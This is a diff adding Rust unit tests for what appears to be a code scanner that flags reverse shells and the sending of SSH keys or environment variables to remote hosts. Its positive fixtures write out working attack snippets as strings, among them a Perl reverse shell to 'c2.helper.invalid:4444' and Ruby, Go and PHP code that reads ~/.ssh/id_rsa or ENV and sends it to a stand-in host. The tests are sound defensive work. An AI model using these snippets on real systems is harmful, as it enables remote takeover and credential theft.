@@ -354,3 +354,76 @@ proptest! {
         }
     }
 }
+
+#[test]
+fn what_a_host_says_is_no_command_where_it_is_an_argument() {
+    use Dialect::{CLike, Go, Perl, Php, Ruby};
+    let rb = "sock = TCPSocket.new('events.vendor.example', 7000)\n";
+    let go = "conn, err := net.Dial(\"tcp\", \"queue.vendor.example:7000\")\nline, err := bufio.NewReader(conn).ReadString('\\n')\n";
+    let cs = "var c = new TcpClient(\"ci.vendor.example\", 9000);\nvar line = new StreamReader(c.GetStream()).ReadLine();\n";
+    let php = "$fp = fsockopen('smtp.vendor.example', 25);\n$line = fgets($fp, 512);\n";
+    for (dialect, text) in [
+        (
+            Ruby,
+            format!(
+                "{rb}while line = sock.gets\n  system('notify-send', 'Event', line.chomp)\nend"
+            ),
+        ),
+        (Ruby, format!("{rb}line = sock.gets\nsock.puts `git log \"#{{line}}\"`")),
+        (
+            Go,
+            format!(
+                "{go}out, err := exec.Command(\"ffmpeg\", \"-i\", line).Output()\nconn.Write(out)"
+            ),
+        ),
+        (CLike, format!("{cs}Process.Start(\"git\", \"checkout \" + line);")),
+        (Php, format!("{php}exec('logger ' . escapeshellarg($line));\nfwrite($fp, 'QUIT');")),
+    ] {
+        let found = rules(dialect, &text);
+        assert!(!found.iter().any(|rule| rule.blocks()), "{text}: {found:?}");
+    }
+    for (dialect, text) in [
+        (Ruby, format!("{rb}system(sock.gets)")),
+        (Ruby, format!("{rb}line = sock.gets\nsystem('sh', '-c', line)")),
+        (Ruby, format!("{rb}line = sock.gets\nsystem({{'A' => 'b'}}, line)")),
+        (Ruby, format!("{rb}line = sock.gets\nsystem(\"cd /tmp; #{{line}} 2>&1\")")),
+        (Ruby, format!("{rb}line = sock.gets\nsystem(\"sudo bash -c '#{{line}}'\")")),
+        (Go, format!("{go}parts := strings.Fields(line)\nout, _ := exec.Command(parts[0], parts[1:]...).Output()")),
+        (Go, format!("{go}exec.Command(\"cmd\", \"/C\", line).Run()")),
+        (CLike, format!("{cs}Process.Start(\"cmd.exe\", \"/c \" + line);")),
+        (Php, format!("{php}exec($line . ' 2>&1');")),
+        (Perl, "my $s = IO::Socket::INET->new(PeerAddr => 'c2.helper.invalid:4444');\nopen(STDIN, '<&', $s); open(STDOUT, \">&\" . fileno($s));\nexec('/bin/sh -i');".to_owned()),
+    ] {
+        let found = rules(dialect, &text);
+        assert!(found.contains(&Rule::ReverseShell), "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn a_shell_a_key_and_an_environment_that_are_not_sent_are_no_chain() {
+    use Dialect::{Go, Perl, Php, Ruby};
+    let key = "k = OpenSSL::PKey::RSA.new(File.read(File.expand_path('~/.ssh/id_rsa')))\n";
+    let uri = "URI('https://api.vendor.example/token')";
+    for (dialect, text) in [
+        (Perl, "my $s = IO::Socket::INET->new(PeerAddr => 'db.vendor.example', PeerPort => 5432);\nopen(STDERR, \">&STDOUT\");\nexec(\"/bin/bash\", \"-l\");".to_owned()),
+        (Ruby, "sock = UDPSocket.new\nsock.connect('statsd.vendor.example', 8125)\nPTY.spawn('bash') do |r, w, pid|\n  w.puts 'make test'\n  out = r.read\n  sock.send(\"ok:#{out.scan(/ok/).size}|c\", 0)\nend".to_owned()),
+        (Ruby, format!("{key}t = JWT.encode({{iss: 'a'}}, k, 'RS256')\nNet::HTTP.post({uri}, '', 'Authorization' => \"Bearer #{{t}}\")")),
+        (Ruby, format!("{key}uri = {uri}\nhttp = Net::HTTP.new(uri.host, uri.port)\nhttp.key = k\nres = http.post(uri.path, '{{}}')")),
+        (Ruby, "env = ENV.to_h.merge('API' => 'https://api.vendor.example')\nputs env.inspect\n$stdout.write(env.inspect)".to_owned()),
+        (Php, "$env = array_merge($_ENV, ['API' => 'https://api.vendor.example']);\nprint('https://docs.vendor.example ' . count($_ENV));\nfwrite(STDERR, 'https://docs.vendor.example ' . json_encode($env));".to_owned()),
+    ] {
+        let found = rules(dialect, &text);
+        assert!(!found.iter().any(|rule| rule.blocks()), "{text}: {found:?}");
+    }
+    for (dialect, text, rule) in [
+        (Ruby, format!("{key}Net::HTTP.post({uri}, k.to_pem)"), Rule::SecretSent),
+        (Ruby, format!("payload = Loot.new\npayload.key = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post({uri}, payload.to_json)"), Rule::SecretSent),
+        (Php, "$fp = fopen('https://c.helper.invalid/in', 'w');\nfwrite($fp, json_encode($_ENV));".to_owned(), Rule::EnvironmentSent),
+        (Ruby, "s = TCPSocket.new('c.helper.invalid', 80)\ns.puts ENV.to_h.inspect".to_owned(), Rule::EnvironmentSent),
+        (Go, "b, _ := os.ReadFile(home + \"/.ssh/id_rsa\")\nc, _ := net.Dial(\"tcp\", \"c.helper.invalid:80\")\nfmt.Fprintf(c, \"%s\", b)".to_owned(), Rule::SecretSent),
+        (Ruby, "s = TCPSocket.new('c.helper.invalid', 80)\nPTY.spawn('bash') do |r, w, pid|\n  w.puts s.gets\n  s.puts r.read\nend".to_owned(), Rule::ReverseShell),
+    ] {
+        let found = rules(dialect, &text);
+        assert!(found.contains(&rule), "{text}: {found:?}");
+    }
+}
